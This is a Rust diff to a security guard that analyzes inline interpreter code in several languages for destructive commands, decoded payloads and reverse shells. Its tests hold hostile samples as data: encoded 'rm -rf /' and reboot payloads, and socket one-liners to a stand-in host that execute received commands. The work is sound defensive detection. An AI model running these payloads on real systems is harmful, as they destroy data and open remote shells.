@@ -1,15 +1,23 @@
-//! Inline interpreter code (`python -c`, `node -e`, `perl -e`, heredocs into `python3 -`): the shell commands, deletions, writes, kills, fork loops and reverse shells it would perform.
+//! Interpreter code (`python -c`, `node -e`, `perl -e`, heredocs into `python3 -`, scripts written earlier on the line, `go run`, Tcl, jshell): the shell commands, deletions, writes, kills, fork loops and reverse shells it would perform, and what it hides.
 //!
 //! The code is lexed under its language's rules (`lex`), so that a call
 //! named inside a string literal is text, not a call; calls are then read
 //! with their real arguments (balanced brackets and quotes) and the values
 //! of those arguments computed where the code makes them plain: literals,
-//! concatenations, simple variables, home-directory expressions, path joins
-//! and base64 or hex decoding (`view`). `calls` says what each call does.
+//! concatenations, simple variables, home-directory expressions, path joins,
+//! base64, hex, rot13 and zlib decoding (`view`, `value`). `calls` says what
+//! each call does; `indirect` follows aliases and calls by computed name;
+//! `tcl` reads Tcl and Expect, whose commands are words like the shell's.
 
+mod aliases;
 mod calls;
+mod files;
+mod indirect;
 mod lex;
 mod patterns;
+mod run;
+mod source;
+mod tcl;
 mod value;
 mod view;
 
@@ -18,9 +26,11 @@ use std::collections::HashSet;
 use once_cell::sync::Lazy;
 use regex::Regex;
 
-use super::command::Command;
+use super::command;
 use lex::Dialect;
 use view::{Span, View};
+
+pub use source::{source, Source};
 
 /// Something the code would do that the shell rules can judge.
 #[derive(Debug, Clone, PartialEq, Eq, Hash)]
@@ -46,13 +56,45 @@ pub struct Effect {
     pub decoded: bool,
 }
 
+/// What the code does that the guard cannot see through, each asked about
+/// by its own rule.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
+pub enum Concern {
+    /// A function reached by a name computed at run time on a module that
+    /// runs commands (`getattr(os, n)`, `Kernel.send(x)`, PHP `$f(...)`),
+    /// or a process forked to run the code after it (Perl `open(F, "|-")`).
+    Indirection,
+    /// Code evaluated from text decoded or decompressed at run time, which
+    /// the guard could not decode itself.
+    EvalDecoded,
+    /// A command run whose program the guard cannot compute.
+    DynamicCommand,
+    /// A native library loaded into the interpreter (`ctypes.CDLL`, `dl()`).
+    NativeLibrary,
+}
+
 /// What reading the code found.
 #[derive(Debug, Default)]
 pub struct Reading {
     pub effects: Vec<Effect>,
     seen: HashSet<Effect>,
+    /// What the code hides, with the code that hides it.
+    pub concerns: Vec<(Concern, String)>,
     /// Why the reading stopped short, if it did: the code went past a limit.
     pub limit: Option<&'static str>,
+    /// Signs of a shell wired to a socket, gathered across nested code.
+    net: Net,
+}
+
+/// What a reverse shell is made of, seen anywhere in the code.
+#[derive(Debug, Default, Clone, Copy)]
+struct Net {
+    /// A socket was opened to (or accepted from) a host.
+    socket: bool,
+    /// A shell was started without a command of the code's own, or a
+    /// command or code came from a value the guard cannot compute (what the
+    /// socket sends, when there is one).
+    runs_unknown: bool,
 }
 
 impl Reading {
@@ -63,289 +105,152 @@ impl Reading {
         }
     }
 
+    fn concern(&mut self, concern: Concern, detail: String) {
+        if !self
+            .concerns
+            .iter()
+            .any(|(c, d)| *c == concern && *d == detail)
+        {
+            self.concerns.push((concern, detail));
+        }
+    }
+
     fn merge(&mut self, other: Reading) {
         for effect in other.effects {
             self.push(effect.action, effect.decoded);
         }
+        for (concern, detail) in other.concerns {
+            self.concern(concern, detail);
+        }
+        self.net.socket |= other.net.socket;
+        self.net.runs_unknown |= other.net.runs_unknown;
         if self.limit.is_none() {
             self.limit = other.limit;
         }
     }
 }
 
-/// Inline code waiting to be read by the rules of the program that runs it.
-#[derive(Debug, Clone, PartialEq, Eq)]
-pub struct Found {
-    code: String,
+/// An interpreter language warden reads.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Lang {
+    Python,
+    Node,
+    Ruby,
+    Perl,
+    Php,
+    Lua,
+    R,
+    Julia,
+    Tcl,
+    Java,
+    Go,
 }
 
-/// Keeps interpreter code for [`Found::read`].
-pub fn scan(code: &str) -> Found {
-    Found {
-        code: code.to_string(),
+impl Lang {
+    /// The lexical family the code is read with; Tcl has its own reader.
+    fn dialect(self) -> Dialect {
+        match self {
+            Lang::Python | Lang::R | Lang::Tcl => Dialect::Python,
+            Lang::Node | Lang::Java | Lang::Go => Dialect::Js,
+            Lang::Ruby => Dialect::Ruby,
+            Lang::Julia => Dialect::Julia,
+            Lang::Perl => Dialect::Perl,
+            Lang::Php => Dialect::Php,
+            Lang::Lua => Dialect::Lua,
+        }
     }
 }
 
-impl Found {
-    /// What the code does when `program` (an interpreter) runs it.
-    pub fn read(&self, program: &str) -> Reading {
-        let dialect = match language(program) {
-            Some("node") => Dialect::Js,
-            Some("ruby") => Dialect::Ruby,
-            Some("perl") => Dialect::Perl,
-            Some("php") => Dialect::Php,
-            Some("lua") => Dialect::Lua,
-            _ => Dialect::Python,
-        };
-        read_code(&self.code, dialect, 0, false)
+/// What `code` does when an interpreter of `lang` runs it.
+pub fn read(code: &str, lang: Lang) -> Reading {
+    let mut reading = if lang == Lang::Tcl {
+        tcl::read(code)
+    } else {
+        read_code(code, lang, 0, false)
+    };
+    if reading.net.socket && reading.net.runs_unknown {
+        reading.push(Action::ReverseShell, false);
     }
+    reading
 }
 
 static IDENT: Lazy<Regex> =
     Lazy::new(|| Regex::new(r"[A-Za-z_$][A-Za-z0-9_$]*").expect("identifier regex is valid"));
 
-fn read_code(code: &str, dialect: Dialect, depth: usize, decoded: bool) -> Reading {
-    let tokens: Vec<Span> = IDENT
+/// Names where `$` is a sigil, not a letter (Perl's `system$_`).
+static SIGIL_IDENT: Lazy<Regex> =
+    Lazy::new(|| Regex::new(r"[A-Za-z_$@][A-Za-z0-9_]*").expect("sigil identifier regex is valid"));
+
+fn read_code(code: &str, lang: Lang, depth: usize, decoded: bool) -> Reading {
+    let lexed = lex::lex(code, lang.dialect());
+    let view = View::new(code, lang.dialect(), &lexed);
+    let aliases = aliases::Aliases::find(&view, lang);
+    let names = match lang.dialect() {
+        Dialect::Js => &IDENT,
+        _ => &SIGIL_IDENT,
+    };
+    let tokens: Vec<Span> = names
         .find_iter(code)
-        .filter(|m| calls::interesting(m.as_str()))
+        .filter(|m| calls::interesting(m.as_str()) || aliases.renames(m.as_str()))
         .map(|m| (m.start(), m.end()))
         .collect();
-    let lexed = lex::lex(code, dialect);
-    let view = View::new(code, dialect, &lexed);
     let mut reading = Reading::default();
-    calls::Reader::new(&view, &mut reading, depth, decoded).read(&lexed, &tokens);
+    calls::Reader::new(&view, lang, &aliases, &mut reading, depth, decoded).read(&lexed, &tokens);
     if let Some(why) = view.incomplete.get() {
         reading.limit.get_or_insert(why);
     }
     reading
 }
 
-/// The interpreter family of a program name, if it is one.
-pub fn language(program: &str) -> Option<&'static str> {
+/// The interpreter language of a program name, if it is one.
+pub fn language(program: &str) -> Option<Lang> {
     let base = program.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
     match base {
-        "python" | "pypy" => Some("python"),
-        "perl" => Some("perl"),
-        "ruby" => Some("ruby"),
+        "python" | "pypy" => Some(Lang::Python),
+        "perl" => Some(Lang::Perl),
+        "ruby" => Some(Lang::Ruby),
         // jrunscript and jjs run JavaScript on the JVM, where `exec` runs a command.
-        "node" | "nodejs" | "deno" | "bun" | "jrunscript" | "jjs" => Some("node"),
-        // Julia's backtick literals are commands, as Ruby's are, and its
-        // `-e` takes code as Ruby's does: its one-liners are read as Ruby.
-        "julia" => Some("ruby"),
-        "php" => Some("php"),
-        "lua" | "luajit" => Some("lua"),
-        "rscript" | "r" => Some("r"),
+        "node" | "nodejs" | "deno" | "bun" | "jrunscript" | "jjs" => Some(Lang::Node),
+        "julia" => Some(Lang::Julia),
+        "php" => Some(Lang::Php),
+        "lua" | "luajit" => Some(Lang::Lua),
+        "rscript" | "r" => Some(Lang::R),
+        "tclsh" | "wish" | "expect" => Some(Lang::Tcl),
+        "jshell" => Some(Lang::Java),
         _ => None,
     }
 }
 
-/// How an interpreter reads its short options.
-struct Options {
-    /// Options whose value is code (`-c`, `-e`).
-    code: &'static str,
-    /// Whether code may be attached to its option (`-cCODE`).
-    attached: bool,
-    /// Options whose value is attached or the next argument (`-W ignore`).
-    valued: &'static str,
-    /// Options that take the rest of their cluster (`-MFile::Path=rmtree`).
-    rest: &'static str,
-    /// Options followed by digits (`-l0`, `-0777`).
-    digits: &'static str,
-    /// Options after which the program is not inline code (`-m module`, `-f file`).
-    script: &'static str,
-    /// Long options that take the next argument.
-    long_valued: &'static [&'static str],
-    /// Long options whose value is code.
-    long_code: &'static [&'static str],
+/// Whether `program` runs code warden reads (`go` only as `go run`).
+pub fn runs_code(program: &str, args: &[String]) -> bool {
+    language(program).is_some() || go_run(program, args)
 }
 
-fn options(language: &str) -> Options {
-    let none: &[&str] = &[];
-    match language {
-        "python" => Options {
-            code: "c",
-            attached: true,
-            valued: "WX",
-            rest: "",
-            digits: "",
-            script: "m",
-            long_valued: none,
-            long_code: none,
-        },
-        "perl" => Options {
-            code: "eE",
-            attached: true,
-            valued: "I",
-            rest: "MmxiCDdFV",
-            digits: "l0",
-            script: "",
-            long_valued: none,
-            long_code: none,
-        },
-        "ruby" => Options {
-            code: "e",
-            attached: true,
-            valued: "rICE",
-            rest: "xFiKTW",
-            digits: "0",
-            script: "",
-            long_valued: none,
-            long_code: none,
-        },
-        "node" => Options {
-            code: "ep",
-            attached: false,
-            valued: "rC",
-            rest: "",
-            digits: "",
-            script: "",
-            long_valued: &[
-                "--require",
-                "--import",
-                "--loader",
-                "--experimental-loader",
-                "--conditions",
-                "--title",
-                "--env-file",
-            ],
-            long_code: &["--eval", "--print"],
-        },
-        "php" => Options {
-            code: "rBRE",
-            attached: true,
-            valued: "dctz",
-            rest: "",
-            digits: "",
-            script: "f",
-            long_valued: none,
-            long_code: none,
-        },
-        "lua" => Options {
-            code: "e",
-            attached: true,
-            valued: "l",
-            rest: "",
-            digits: "",
-            script: "",
-            long_valued: none,
-            long_code: none,
-        },
-        _ => Options {
-            code: "e",
-            attached: true,
-            valued: "",
-            rest: "",
-            digits: "",
-            script: "",
-            long_valued: none,
-            long_code: &["--eval"],
-        },
-    }
+/// `go run`: Go is compiled, not an interpreter, but `go run` runs the
+/// files it names.
+fn go_run(program: &str, args: &[String]) -> bool {
+    program == "go" && args.first().is_some_and(|a| a == "run")
 }
 
-/// The code an interpreter command runs inline: its `-c`/`-e`/`-r` argument,
-/// or its stdin when it reads the program from stdin.
-pub fn inline_code(cmd: &Command) -> Option<String> {
-    let language = language(&cmd.program)?;
-    let opts = options(language);
-    // Python stops reading options at `-c`; what follows is the program's argv.
-    let stop_at_code = language == "python";
-    let mut code: Vec<String> = Vec::new();
-    let mut has_script = false;
-    let mut iter = cmd.args.iter();
-    // Deno and Bun name their action first (`deno eval CODE`, `bun run x`).
-    let mut first = true;
-    'args: while let Some(arg) = iter.next() {
-        if std::mem::take(&mut first) && matches!(cmd.program.as_str(), "deno" | "bun") {
-            match arg.as_str() {
-                "eval" => {
-                    code.extend(iter.next().cloned());
-                    continue;
-                }
-                a if !a.starts_with('-') => {
-                    has_script = true;
-                    break;
-                }
-                _ => {}
-            }
-        }
-        if arg == "-" {
-            break;
-        }
-        if arg == "--" || !arg.starts_with('-') {
-            has_script = true;
-            break;
-        }
-        if let Some(long) = arg.strip_prefix("--") {
-            let (key, value) = match long.split_once('=') {
-                Some((k, v)) => (format!("--{k}"), Some(v)),
-                None => (arg.clone(), None),
-            };
-            if opts.long_code.contains(&key.as_str()) {
-                code.extend(value.map(str::to_string).or_else(|| iter.next().cloned()));
-            } else if opts.long_valued.contains(&key.as_str()) && value.is_none() {
-                iter.next();
-            }
-            continue;
-        }
-        let cluster: Vec<char> = arg.chars().skip(1).collect();
-        let mut k = 0;
-        let mut wants_code = false;
-        while k < cluster.len() {
-            let c = cluster[k];
-            let rest: String = cluster[k + 1..].iter().collect();
-            if opts.code.contains(c) && !opts.attached {
-                // `node -pe CODE`: the flags share the next argument.
-                wants_code = true;
-                k += 1;
-            } else if opts.code.contains(c) {
-                code.extend(if rest.is_empty() {
-                    iter.next().cloned()
-                } else {
-                    Some(rest)
-                });
-                if stop_at_code {
-                    break 'args;
-                }
-                break;
-            } else if opts.script.contains(c) {
-                has_script = true;
-                break 'args;
-            } else if opts.valued.contains(c) {
-                if rest.is_empty() {
-                    iter.next();
-                }
-                break;
-            } else if opts.rest.contains(c) {
-                break;
-            } else if opts.digits.contains(c) {
-                k += 1;
-                while k < cluster.len() && ('0'..='7').contains(&cluster[k]) {
-                    k += 1;
-                }
-            } else if c.is_ascii_alphabetic() {
-                k += 1;
-            } else {
-                break;
-            }
-        }
-        if wants_code {
-            code.extend(iter.next().cloned());
-        }
+/// The code an interpreter command runs inline: its `-c`/`-e` code or its
+/// stdin (not a script file, which only the line's own writes can tell).
+pub fn inline_code(cmd: &command::Command) -> Option<String> {
+    match source(cmd)? {
+        (_, Source::Inline(code)) => Some(code),
+        _ => None,
     }
-    if code.is_empty() && !has_script {
-        return cmd.stdin.clone();
-    }
-    (!code.is_empty()).then(|| code.join("\n"))
 }
 
 #[cfg(test)]
 mod tests {
     use super::*;
 
+    pub(super) fn read_as(program: &str, code: &str) -> Reading {
+        read(code, language(program).unwrap_or(Lang::Python))
+    }
+
     fn effects(program: &str, code: &str) -> Vec<Action> {
-        scan(code)
-            .read(program)
+        read_as(program, code)
             .effects
             .into_iter()
             .map(|e| e.action)
@@ -622,8 +527,10 @@ mod tests {
 
     #[test]
     fn decoded_payloads() {
-        let found = scan("import base64,os; os.system(base64.b64decode('cm0gLXJmIC8=').decode())")
-            .read("python3");
+        let found = read_as(
+            "python3",
+            "import base64,os; os.system(base64.b64decode('cm0gLXJmIC8=').decode())",
+        );
         assert_eq!(
             found.effects,
             [Effect {
@@ -631,8 +538,10 @@ mod tests {
                 decoded: true
             }]
         );
-        let found = scan("eval(atob('cmVxdWlyZSgiZnMiKS5ybVN5bmMoIi8iLHtyZWN1cnNpdmU6dHJ1ZX0p'))")
-            .read("node");
+        let found = read_as(
+            "node",
+            "eval(atob('cmVxdWlyZSgiZnMiKS5ybVN5bmMoIi8iLHtyZWN1cnNpdmU6dHJ1ZX0p'))",
+        );
         assert_eq!(
             found.effects,
             [Effect {
@@ -642,55 +551,143 @@ mod tests {
         );
     }
 
-    fn code_of(program: &str, args: &[&str]) -> Option<String> {
-        inline_code(&Command::new(program, args))
+    fn concerns(program: &str, code: &str) -> Vec<Concern> {
+        read_as(program, code)
+            .concerns
+            .into_iter()
+            .map(|(c, _)| c)
+            .collect()
     }
 
     #[test]
-    fn inline_code_options() {
+    fn languages_beyond_the_first_five() {
+        assert_eq!(shell("julia", "run(`rm -rf $(homedir())`)"), ["rm -rf ~"]);
         assert_eq!(
-            code_of("perl", &["-MFile::Path=remove_tree", "-e", "x"]).as_deref(),
-            Some("x")
+            shell("julia", "d = \"/etc\"; run(`rm -rf $d`)"),
+            ["rm -rf /etc"]
         );
         assert_eq!(
-            code_of("perl", &["-Msome", "-e", "x"]).as_deref(),
-            Some("x")
+            shell("go", "exec.Command(\"rm\", \"-rf\", \"/usr\").Run()"),
+            ["'rm' '-rf' '/usr'"]
         );
         assert_eq!(
-            code_of("perl", &["-lne", "x", "file"]).as_deref(),
-            Some("x")
+            shell(
+                "jshell",
+                "Runtime.getRuntime().exec(new String[]{\"sh\", \"-c\", \"reboot\"})"
+            ),
+            ["'sh' '-c' 'reboot'"]
         );
         assert_eq!(
-            code_of("perl", &["-e", "a", "-e", "b"]).as_deref(),
-            Some("a\nb")
-        );
-        assert_eq!(code_of("perl", &["-ie", "x"]), None);
-        assert_eq!(
-            code_of("ruby", &["-rfileutils", "-e", "x"]).as_deref(),
-            Some("x")
+            shell(
+                "jshell",
+                "new ProcessBuilder(List.of(\"rm\", \"x\")).start()"
+            ),
+            ["'rm' 'x'"]
         );
         assert_eq!(
-            code_of("ruby", &["-r", "json", "-e", "x"]).as_deref(),
-            Some("x")
+            shell("rscript", "system2(\"rm\", c(\"-rf\", \"~\"))"),
+            ["rm -rf ~"]
+        );
+        assert_eq!(shell("tclsh", "exec reboot"), ["'reboot'"]);
+    }
+
+    #[test]
+    fn home_stays_home_in_command_words() {
+        assert_eq!(
+            shell(
+                "python3",
+                "subprocess.run(['rm', '-rf', os.path.expanduser('~/x')])"
+            ),
+            ["'rm' '-rf' ~'/x'"]
+        );
+        // A `~` the code wrote is a file named `~` to a program run without a shell.
+        assert_eq!(
+            shell("python3", "subprocess.run(['rm', '-rf', '~'])"),
+            ["'rm' '-rf' '~'"]
+        );
+    }
+
+    #[test]
+    fn decompressed_and_rot13_code() {
+        let zlib = "import zlib,base64; exec(zlib.decompress(base64.b64decode('eJwrylXQLUpT0AcAC50CVA==')))";
+        assert!(effects("python3", zlib).is_empty());
+        let zlib = "import zlib,base64,os; os.system(zlib.decompress(base64.b64decode('eJwrylXQLUpT0AcAC50CVA==')).decode())";
+        assert_eq!(shell("python3", zlib), ["rm -rf /"]);
+        assert_eq!(
+            shell("php", "eval(str_rot13('flfgrz(\"erobbg\");'));"),
+            ["reboot"]
         );
         assert_eq!(
-            code_of("python3", &["-Bc", "x", "-c", "y"]).as_deref(),
-            Some("x")
+            concerns("python3", "exec(zlib.decompress(sys.stdin.buffer.read()))"),
+            [Concern::EvalDecoded]
         );
-        assert_eq!(code_of("python3", &["-cx"]).as_deref(), Some("x"));
-        assert_eq!(code_of("python3", &["-m", "json.tool"]), None);
-        assert_eq!(
-            code_of("python3", &["-W", "ignore", "-c", "x"]).as_deref(),
-            Some("x")
-        );
-        assert_eq!(code_of("node", &["-pe", "x"]).as_deref(), Some("x"));
-        assert_eq!(code_of("node", &["--eval=x"]).as_deref(), Some("x"));
-        assert_eq!(
-            code_of("node", &["-r", "ts-node/register", "-e", "x"]).as_deref(),
-            Some("x")
-        );
-        assert_eq!(code_of("deno", &["eval", "x"]).as_deref(), Some("x"));
-        assert_eq!(code_of("php", &["-r", "x"]).as_deref(), Some("x"));
-        assert_eq!(code_of("node", &["script.js"]), None);
+        // Code the guard cannot read, but not decoded: nothing to say alone.
+        assert!(concerns("python3", "exec(open('setup.py').read())").is_empty());
+    }
+
+    #[test]
+    fn unknown_programs_ask_where_a_program_surely_runs() {
+        for (program, code) in [
+            ("python3", "import os,sys; os.system(sys.argv[1])"),
+            (
+                "python3",
+                "import subprocess,sys; subprocess.run(sys.argv[1:])",
+            ),
+            (
+                "python3",
+                "from subprocess import check_output as co; co(input())",
+            ),
+            ("node", "require('child_process').execSync(process.argv[2])"),
+            ("ruby", "system(ARGV[0])"),
+            ("perl", "system$_ while <>"),
+            ("php", "passthru($argv[1]);"),
+            ("lua", "os.execute(arg[1])"),
+            ("rscript", "system(commandArgs(TRUE)[1])"),
+            ("go", "exec.Command(os.Args[1]).Run()"),
+        ] {
+            assert_eq!(
+                concerns(program, code),
+                [Concern::DynamicCommand],
+                "{program}: {code}"
+            );
+        }
+        for (program, code) in [
+            ("python3", "import asyncio; asyncio.run(main())"),
+            ("python3", "app.run(debug=True)"),
+            ("node", "/x/.exec(s)"),
+            ("python3", "system(x)"),
+        ] {
+            assert!(concerns(program, code).is_empty(), "{program}: {code}");
+        }
+    }
+
+    #[test]
+    fn sockets_that_run_what_they_receive() {
+        for (program, code) in [
+            ("lua", "local s=require('socket'); local t=s.tcp(); t:connect('h',1); while true do local r=t:receive(); io.popen(r) end"),
+            ("node", "require('net').connect(1,'h').on('data',d=>require('child_process').exec(d.toString()))"),
+            ("python3", "import socket; s=socket.create_connection(('h',1)); exec(s.recv(99))"),
+            ("rscript", "con <- socketConnection(host='h', port=1); system(readLines(con, 1))"),
+            ("go", "c, _ := net.Dial(\"tcp\", \"h:1\"); cmd := exec.Command(\"/bin/sh\"); cmd.Stdin = c"),
+            ("tclsh", "set s [socket h 1]; exec sh <@ $s >@ $s"),
+        ] {
+            assert!(
+                effects(program, code).contains(&Action::ReverseShell),
+                "{program}: {code}"
+            );
+        }
+        let check = "import socket; s = socket.create_connection(('db', 5432)); s.close()";
+        assert!(!effects("python3", check).contains(&Action::ReverseShell));
+        let client = "require('net').connect(80, 'h', () => console.log('up'))";
+        assert!(!effects("node", client).contains(&Action::ReverseShell));
+        // Data the code cannot compute, given to a known program or parsed
+        // as data, is no shell for the socket.
+        for code in [
+            "import socket, subprocess; s = socket.create_connection(('db', 5432)); subprocess.run(['pg_dump', name])",
+            "import socket, re, json; s = socket.socket(); s.connect(('h', 1)); r = re.compile(p); c = json.load(f)",
+            "import socket, os; s = socket.create_connection(('h', 1)); os.system('ls ' + d)",
+        ] {
+            assert!(!effects("python3", code).contains(&Action::ReverseShell), "{code}");
+        }
     }
 }
